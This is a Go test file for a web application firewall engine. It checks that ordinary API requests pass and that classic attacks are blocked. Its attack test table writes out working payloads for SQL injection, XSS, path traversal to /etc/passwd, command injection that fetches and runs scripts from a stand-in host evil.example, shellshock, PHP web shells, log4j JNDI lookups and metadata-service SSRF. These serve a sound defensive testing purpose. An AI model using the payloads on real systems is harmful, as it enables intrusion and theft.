package crs

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// limit is small, to keep the tests short.
const limit = 8 << 10

func engine(t testing.TB, change func(*Config)) *Engine {
	t.Helper()
	c := Config{Groups: AllGroups, ParanoiaLevel: 1, Threshold: DefaultThreshold, BodyLimit: limit}
	if change != nil {
		change(&c)
	}
	e, err := shared.Get(c)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

var shared Engines // of all tests, since the first takes a while

// request has the fields of a browser, and those given as "Name: value".
func request(method, target, body string, fields ...string) *Request {
	r := &Request{Source: "192.0.2.7", Port: 50123, Method: method, Target: target, Protocol: "HTTP/1.1", Host: "api.example.com", Body: []byte(body)}
	given := map[string]bool{}
	for _, f := range fields {
		name, value, _ := strings.Cut(f, ": ")
		given[strings.ToLower(name)] = true
		r.Headers = append(r.Headers, Header{name, value})
	}
	for _, h := range []Header{
		{"Host", "api.example.com"},
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"},
		{"Accept", "*/*"},
		{"Accept-Language", "en-US,en;q=0.5"},
		{"Accept-Encoding", "gzip, deflate, br"},
	} {
		if !given[strings.ToLower(h.Name)] {
			r.Headers = append(r.Headers, h)
		}
	}
	if body != "" {
		r.Headers = append(r.Headers, Header{"Content-Length", fmt.Sprint(len(body))})
	}
	if len(body) > limit {
		r.Body, r.Cut = r.Body[:limit], true
	}
	return r
}

func inspect(t testing.TB, e *Engine, r *Request) Result {
	t.Helper()
	result, err := e.Inspect(context.Background(), r)
	if err != nil {
		t.Fatal(err)
	}
	return result
}

const (
	jsonBody = "Content-Type: application/json"
	formBody = "Content-Type: application/x-www-form-urlencoded"
	xmlBody  = "Content-Type: application/xml"
	partBody = "Content-Type: multipart/form-data; boundary=frontier"
)

func part(name, file, text string) string {
	disposition := fmt.Sprintf("form-data; name=%q", name)
	if file != "" {
		disposition += fmt.Sprintf("; filename=%q\r\nContent-Type: application/octet-stream", file)
	}
	return "--frontier\r\nContent-Disposition: " + disposition + "\r\n\r\n" + text + "\r\n"
}

// What an ordinary API sees all day.
func TestBenignRequestsPass(t *testing.T) {
	e := engine(t, nil)
	for name, r := range map[string]*Request{
		"list":               request("GET", "/prod/pets?page=2&limit=50&sort=-created_at", ""),
		"item":               request("GET", "/prod/pets/2f1a7c1e-5d0f-4d6a-9a44-0c2f6f1f1b11", ""),
		"search":             request("GET", "/prod/search?q=red+shoes+size+42&filter%5Bprice%5D=10..50", ""),
		"unicode":            request("GET", "/prod/search?q=%E6%9D%B1%E4%BA%AC&city=M%C3%BCnchen", ""),
		"name with a quote":  request("POST", "/prod/users", `{"name":"Conan O'Brien","city":"Saint John's"}`, jsonBody),
		"curl":               request("GET", "/prod/health", "", "User-Agent: curl/8.9.1"),
		"sdk":                request("GET", "/prod/pets", "", "User-Agent: aws-sdk-go-v2/1.41.7 os/linux lang/go#1.26", "Accept: application/json"),
		"options":            request("OPTIONS", "/prod/pets", "", "Origin: https://shop.example.com", "Access-Control-Request-Method: PUT"),
		"head":               request("HEAD", "/prod/pets", ""),
		"put":                request("PUT", "/prod/pets/7", `{"type":"dog","price":249.99,"tags":["small","brown"]}`, jsonBody),
		"patch":              request("PATCH", "/prod/pets/7", `[{"op":"replace","path":"/price","value":99}]`, "Content-Type: application/json-patch+json"),
		"delete":             request("DELETE", "/prod/pets/7", ""),
		"order":              request("POST", "/prod/orders?dry=false", order, jsonBody),
		"text of a review":   request("POST", "/prod/reviews", `{"stars":4,"text":"Great dog! We'd select him again; he drops everything & runs. 10/10 - or more."}`, jsonBody),
		"form":               request("POST", "/prod/contact", "name=Ada+Lovelace&email=ada%40example.com&message=Please+call+me+back+tomorrow.", formBody),
		"upload":             request("POST", "/prod/files", part("note", "", "my holiday")+part("file", "beach.jpg", "\xff\xd8\xff\xe0 binary \x00\x01")+"--frontier--\r\n", partBody),
		"xml":                request("POST", "/prod/soap", `<?xml version="1.0"?><order id="17"><item sku="A-1">2</item></order>`, xmlBody),
		"plain text":         request("POST", "/prod/notes", "Two dogs and a cat, please.", "Content-Type: text/plain"),
		"bearer token":       request("GET", "/prod/me", "", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"),
		"signed":             request("GET", "/prod/me", "", "Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261122/us-east-1/execute-api/aws4_request, SignedHeaders=host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7", "X-Amz-Date: 20261122T000000Z"),
		"cookies":            request("GET", "/prod/me", "", "Cookie: session=9f86d081884c7d65; theme=dark; _ga=GA1.2.1234567890.1700000000"),
		"graphql":            request("POST", "/prod/graphql", `{"query":"query Pets($n: Int) { pets(first: $n) { id name } }","variables":{"n":10}}`, jsonBody),
		"expect":             request("POST", "/prod/orders", order, jsonBody, "Expect: 100-continue"),
		"method override":    request("PUT", "/prod/pets/7", `{"a":1}`, jsonBody, "X-HTTP-Method-Override: PUT"),
		"proxied":            request("GET", "/prod/pets", "", "X-Forwarded-For: 198.51.100.7, 192.0.2.1", "X-Forwarded-Proto: https"),
		"empty object":       request("POST", "/prod/pets", `{}`, jsonBody),
		"long body, cut":     request("POST", "/prod/import", `{"rows":["`+strings.Repeat("lorem ipsum dolor sit amet ", 400)+`"]}`, jsonBody),
		"long upload, cut":   request("POST", "/prod/files", part("file", "a.bin", strings.Repeat("0123456789", 1000))+"--frontier--\r\n", partBody),
		"long document, cut": request("POST", "/prod/soap", "<a>"+strings.Repeat("<b>größer</b>", 800)+"</a>", xmlBody),
	} {
		if got := inspect(t, e, r); got.Blocked {
			t.Errorf("%s: blocked by %v", name, got.Rules)
		}
	}
}

// The classic attacks, each in a few places and disguises, at the lowest paranoia
// level.
func TestAttacksAreBlocked(t *testing.T) {
	padding := strings.Repeat("x", 9<<10)
	e := engine(t, nil)
	for name, tc := range map[string]struct {
		r    *Request
		want Groups
	}{
		"sql in a query":           {request("GET", "/prod/pets?id=1%27%20or%20%271%27%3D%271", ""), SQL},
		"sql union":                {request("GET", "/prod/pets?id=-1+UNION+SELECT+username,password+FROM+users--", ""), SQL},
		"sql with comments":        {request("GET", "/prod/pets?id=1/**/UNION/**/SELECT/**/1,2,version()", ""), SQL},
		"sql that waits":           {request("GET", "/prod/pets?id=1;WAITFOR+DELAY+%270:0:5%27", ""), SQL},
		"sql in a form":            {request("POST", "/prod/login", "user=admin%27--+&password=x%27+or+1%3D1--", formBody), SQL},
		"sql in json":              {request("POST", "/prod/login", `{"user":{"name":"' OR 1=1; DROP TABLE users; --"}}`, jsonBody), SQL},
		"sql in json escapes":      {request("POST", "/prod/login", `{"user":"\u0027 \u0055NION \u0053ELECT password FROM users"}`, jsonBody), SQL},
		"sql in a cookie":          {request("GET", "/prod/me", "", "Cookie: id=1' UNION SELECT 1,2,3--"), SQL},
		"sql in a user agent":      {request("GET", "/prod/me", "", "User-Agent: x' or sleep(5)='"), SQL},
		"sql in xml":               {request("POST", "/prod/soap", "<a>1' UNION SELECT password FROM users--</a>", xmlBody), SQL},
		"sql in a part":            {request("POST", "/prod/files", part("id", "", "1' UNION SELECT password FROM users--")+"--frontier--\r\n", partBody), SQL},
		"sql before padding":       {request("POST", "/prod/login", `{"user":"' UNION SELECT password FROM users -- `+padding+`"}`, jsonBody), SQL},
		"sql in a key":             {request("POST", "/prod/login", `{"' UNION SELECT password FROM users -- `+padding+`":1}`, jsonBody), SQL},
		"sql, padded form":         {request("POST", "/prod/login", "user=%27+UNION+SELECT+password+FROM+users--&p="+padding, formBody), SQL},
		"sql, padded xml":          {request("POST", "/prod/soap", "<a><b>1' UNION SELECT password FROM users--</b><c>"+padding, xmlBody), SQL},
		"sql, padded part":         {request("POST", "/prod/files", part("id", "", "1' UNION SELECT password FROM users--")+part("f", "x", padding), partBody), SQL},
		"script in a query":        {request("GET", "/prod/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), XSS},
		"script, encoded twice":    {request("GET", "/prod/search?q=%253Cscript%253Ealert(1)%253C/script%253E", ""), XSS | Protocol},
		"event handler":            {request("GET", "/prod/search?q=%3Cimg+src=x+onerror=alert(1)%3E", ""), XSS},
		"svg":                      {request("POST", "/prod/reviews", `{"text":"<svg/onload=alert(document.cookie)>"}`, jsonBody), XSS},
		"javascript url":           {request("POST", "/prod/me", "homepage=javascript:alert(document.domain)", formBody), XSS},
		"script in a referer":      {request("GET", "/prod/me", "", "Referer: https://x/<script>alert(1)</script>"), XSS},
		"passwd":                   {request("GET", "/prod/files?name=../../../../etc/passwd", ""), LocalFile},
		"passwd, encoded":          {request("GET", "/prod/files?name=..%2f..%2f..%2fetc%2fpasswd", ""), LocalFile},
		"passwd in json":           {request("POST", "/prod/files", `{"name":"../../../etc/shadow"}`, jsonBody), LocalFile},
		"git directory":            {request("GET", "/prod/.git/config", ""), LocalFile},
		"remote file":              {request("GET", "/prod/page?file=http://192.0.2.66/shell.txt", ""), RemoteFile},
		"shell command":            {request("GET", "/prod/ping?host=127.0.0.1;cat+/etc/passwd", ""), Command},
		"shell substitution":       {request("POST", "/prod/ping", `{"host":"$(curl http://evil.example/x.sh|bash)"}`, jsonBody), Command},
		"shell backticks":          {request("POST", "/prod/ping", "host=%60wget+http://evil.example/x%60", formBody), Command},
		"shellshock":               {request("GET", "/prod/cgi", "", "User-Agent: () { :;}; /bin/bash -c 'id'"), Command},
		"powershell":               {request("GET", "/prod/run?c=powershell+-enc+SQBFAFgA", ""), Command},
		"php code":                 {request("POST", "/prod/x", "a=<?php+system($_GET['c']);+?>", formBody), PHP},
		"php upload":               {request("POST", "/prod/files", part("f", "shell.php", "<?php eval($_POST[1]); ?>")+"--frontier--\r\n", partBody), PHP},
		"log4j":                    {request("GET", "/prod/me", "", "User-Agent: ${jndi:ldap://evil.example/a}"), Java},
		"log4j, disguised":         {request("GET", "/prod/x?q=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D", ""), Java},
		"java runtime":             {request("POST", "/prod/x", `{"class":"java.lang.Runtime","cmd":"getRuntime().exec"}`, jsonBody), Java},
		"metadata service":         {request("GET", "/prod/fetch?url=http://169.254.169.254/latest/meta-data/", ""), Generic},
		"node code":                {request("POST", "/prod/x", `{"a":"require('child_process').exec('id')"}`, jsonBody), Generic},
		"template":                 {request("POST", "/prod/x", `{"__proto__":{"admin":true}}`, jsonBody), Generic},
		"scanner":                  {request("GET", "/prod/pets", "", "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)"), Scanner},
		"injected header":          {request("GET", "/prod/go?to=x%0d%0aSet-Cookie:%20admin=1", ""), Smuggling},
		"request in a request":     {request("POST", "/prod/x", "a=%0d%0aGET+/admin+HTTP/1.1%0d%0aHost:+internal", formBody), Smuggling},
		"session in a query":       {request("GET", "/prod/x?phpsessid=1234567890abcdef", "", "Referer: https://evil.example/"), Session},
		"method":                   {request("TRACE", "/prod/pets", ""), Method},
		"two lengths":              {request("POST", "/prod/pets", "x", formBody, "Content-Length: abc"), Protocol},
		"compressed body":          {request("POST", "/prod/pets", "\x1f\x8b\x08", jsonBody, "Content-Encoding: gzip"), Protocol},
		"unknown media type":       {request("POST", "/prod/pets", "x", "Content-Type: application/x-evil"), Protocol},
		"backup file":              {request("GET", "/prod/index.php.bak", ""), Protocol},
		"broken json":              {request("POST", "/prod/pets", `{"a":"b`, jsonBody), 0},
		"deep json":                {request("POST", "/prod/pets", strings.Repeat(`{"a":`, 200)+"1"+strings.Repeat("}", 200), jsonBody), 0},
		"deep json, cut":           {request("POST", "/prod/pets", `{"d":`+strings.Repeat(`[`, 200)+strings.Repeat("]", 200)+`,"a":"' UNION SELECT password FROM users --","p":"`+padding, jsonBody), 0},
		"json that is none, cut":   {request("POST", "/prod/pets", `{"d":1}}}{"a":"' UNION SELECT password FROM users --","p":"`+padding, jsonBody), 0},
		"a thousand arguments":     {request("GET", "/prod/pets?"+strings.Repeat("a=1&", 1100), ""), 0},
		"many arguments in a body": {request("POST", "/prod/pets", strings.Repeat("a=1&", 1100), formBody), 0},
		"many parts":               {request("POST", "/prod/files", strings.Repeat(part("f", "a", "x"), 200)+"--frontier--\r\n", partBody), Multipart},
	} {
		got := inspect(t, e, tc.r)
		if !got.Blocked {
			t.Errorf("%s: passed, matched %v", name, got.Rules)
		} else if tc.want != 0 && got.Groups&tc.want == 0 {
			t.Errorf("%s: matched %v in groups %b, want %b", name, got.Rules, got.Groups, tc.want)
		}
	}
}

var order = `{"order":{"id":17,"customer":{"name":"Ada Lovelace","email":"ada@example.com","street":"12 Analytical Row","city":"London"},"items":[` +
	strings.Repeat(`{"sku":"A-1001","quantity":2,"price":19.99,"note":"gift wrapping please"},`, 9) + `{"sku":"Z-9"}]}}`

func TestConfig(t *testing.T) {
	union := request("GET", "/prod/pets?id=-1+UNION+SELECT+username,password+FROM+users--", "")
	matched := inspect(t, engine(t, nil), union)
	for name, tc := range map[string]struct {
		change  func(*Config)
		r       *Request
		blocked bool
	}{
		"only scripts":               {func(c *Config) { c.Groups = XSS }, union, false},
		"only SQL":                   {func(c *Config) { c.Groups = SQL }, union, true},
		"a high threshold":           {func(c *Config) { c.Threshold = 100 }, union, false},
		"rules that matched are out": {func(c *Config) { c.Excluded = matched.Rules }, union, false},
		"another rule is out":        {func(c *Config) { c.Excluded = []int{941100} }, union, true},
		"one quote":                  {nil, request("GET", "/prod/pets?name=O%27Brien+%26+%22sons%22", ""), false},
		"one quote, high level":      {func(c *Config) { c.ParanoiaLevel = 4 }, request("GET", "/prod/pets?name=O%27Brien+%26+%22sons%22", ""), true},
		"short limit":                {func(c *Config) { c.BodyLimit = 32 }, request("POST", "/prod/x", "a=b", formBody), false},
		"lines of a table":           {func(c *Config) { c.Excluded = []int{921150} }, request("POST", "/prod/import", "id,name\n1,dog\n2,cat\n", "Content-Type: text/csv"), false},
	} {
		if got := inspect(t, engine(t, tc.change), tc.r); got.Blocked != tc.blocked {
			t.Errorf("%s: blocked %v by %v", name, got.Blocked, got.Rules)
		}
	}
	for name, tc := range map[string]struct {
		change func(*Config)
		want   string
	}{
		"no groups":    {func(c *Config) { c.Groups = 0 }, "no selection"},
		"level":        {func(c *Config) { c.ParanoiaLevel = 5 }, "paranoia level 5"},
		"threshold":    {func(c *Config) { c.Threshold = 0 }, "threshold 0"},
		"limit":        {func(c *Config) { c.BodyLimit = 0 }, "0 bytes"},
		"unknown rule": {func(c *Config) { c.Excluded = []int{942999} }, "has no rule 942999"},
		"other group":  {func(c *Config) { c.Groups, c.Excluded = XSS, []int{942100} }, "rule 942100 is not in this group"},
		"what blocks":  {func(c *Config) { c.Excluded = []int{949110} }, "has no rule 949110 that looks for attacks"},
	} {
		c := Config{Groups: AllGroups, ParanoiaLevel: 1, Threshold: 5, BodyLimit: limit}
		tc.change(&c)
		if _, err := shared.Get(c); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %v, want %q", name, err, tc.want)
		}
	}
}

func TestEnginesAreKeptByConfig(t *testing.T) {
	var s Engines
	c := Config{Groups: SQL, ParanoiaLevel: 1, Threshold: 5, BodyLimit: limit}
	first, err := s.Get(c)
	if err != nil {
		t.Fatal(err)
	}
	if again, _ := s.Get(c); again != first {
		t.Error("the same configuration made another engine")
	}
	c.Threshold = 6
	second, _ := s.Get(c)
	if second == first || s.Len() != 2 {
		t.Errorf("%d engines", s.Len())
	}
	s.Retain(map[*Engine]bool{second: true})
	if s.Len() != 1 {
		t.Errorf("%d engines", s.Len())
	}
	union := request("GET", "/x?id=-1+UNION+SELECT+username,password+FROM+users--", "")
	for name, e := range map[string]*Engine{"forgotten": first, "kept": second} {
		if !inspect(t, e, union).Blocked {
			t.Errorf("the engine that was %s lets an attack pass", name)
		}
	}
}

func TestInspectEndsWithItsContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := engine(t, nil).Inspect(ctx, request("GET", "/", "")); err != context.Canceled {
		t.Errorf("error %v", err)
	}
}

func TestLabels(t *testing.T) {
	seen := map[string]bool{}
	var all Groups
	for g, label := range AllGroups.Labels() {
		if seen[label] || all&g != 0 {
			t.Errorf("%s is there twice", label)
		}
		seen[label] = true
		all |= g
		if ids := ruleIDs()[g]; len(ids) == 0 || groupOf(ids[0]) != g {
			t.Errorf("%s has the rules %v", label, ids)
		}
	}
	if all != AllGroups {
		t.Errorf("%b have labels", all)
	}
	for range AllGroups.Labels() {
		break
	}
}
